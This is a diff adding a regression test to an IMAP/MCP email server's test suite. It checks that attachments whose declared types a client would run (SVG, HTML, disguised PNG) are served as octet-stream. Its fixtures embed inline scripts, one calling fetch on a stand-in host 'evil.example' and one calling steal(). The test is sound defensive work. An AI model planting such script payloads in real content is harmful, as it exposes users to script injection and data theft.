@@ -366,3 +366,52 @@ async def test_a_30mb_attachment_is_read_in_bounded_chunks(
         assert envelope["success"] and data["truncated"] is True and data["next_action"] is None
         assert len(data["text"]) <= 100
         assert any("max_attachment_bytes" in w for w in envelope["meta"]["warnings"])
+
+
+PNG_BYTES = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+)
+SVG_WITH_SCRIPT = (
+    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example")</script></svg>'
+)
+HTML_WITH_SCRIPT = b"<html><body><script>steal()</script></body></html>"
+
+
+def active_attachments_message() -> bytes:
+    """Attachments whose declared types a client would run, and two real images."""
+    msg = EmailMessage()
+    msg["From"] = "Sender <sender@example.com>"
+    msg["To"] = "user@example.org"
+    msg["Subject"] = "Pictures"
+    msg["Date"] = "Mon, 03 Feb 2025 10:00:00 +0100"
+    msg.set_content("See attached.\n")
+    msg.add_attachment(SVG_WITH_SCRIPT, maintype="image", subtype="svg+xml", filename="logo.svg")
+    msg.add_attachment(HTML_WITH_SCRIPT, maintype="text", subtype="html", filename="evil.bin")
+    msg.add_attachment(SVG_WITH_SCRIPT, maintype="image", subtype="png", filename="fake.png")
+    msg.add_attachment(PNG_BYTES, maintype="image", subtype="png", filename="dot.png")
+    msg.add_attachment(PNG_BYTES, maintype="application", subtype="octet-stream", filename="dot.dat")
+    return crlf(msg)
+
+
+async def test_regression_attachment_resources_never_serve_a_type_a_client_would_run(
+    imap_server: MatrixServer, user: str, config: Config
+) -> None:
+    # Issue 25: an SVG with <script> was served as image/svg+xml, HTML as text/html (even named evil.bin).
+    imap_server.seed(user, "INBOX", [active_attachments_message()])
+    async with Client(build_server(config)) as client:
+        mcp = EnvelopeClient(client)
+        mid = await message_id(mcp, 1)
+        listed = (await mcp.ok("imap_get_message", {"message_id": mid, "fields": "full"}))["message"]
+        served = {}
+        for attachment in listed["attachments"]:
+            (blob,) = (await client.read_resource(attachment["resource_uri"])).contents
+            assert isinstance(blob, BlobResourceContents)
+            declared = (blob.meta or {}).get("declared_content_type")
+            served[attachment["filename"]] = (blob.mime_type, declared, base64.b64decode(blob.blob))
+    assert served == {
+        "logo.svg": ("application/octet-stream", "image/svg+xml", SVG_WITH_SCRIPT),
+        "evil.bin": ("application/octet-stream", "text/html", HTML_WITH_SCRIPT),
+        "fake.png": ("application/octet-stream", "image/png", SVG_WITH_SCRIPT),
+        "dot.png": ("image/png", None, PNG_BYTES),
+        "dot.dat": ("image/png", "application/octet-stream", PNG_BYTES),
+    }
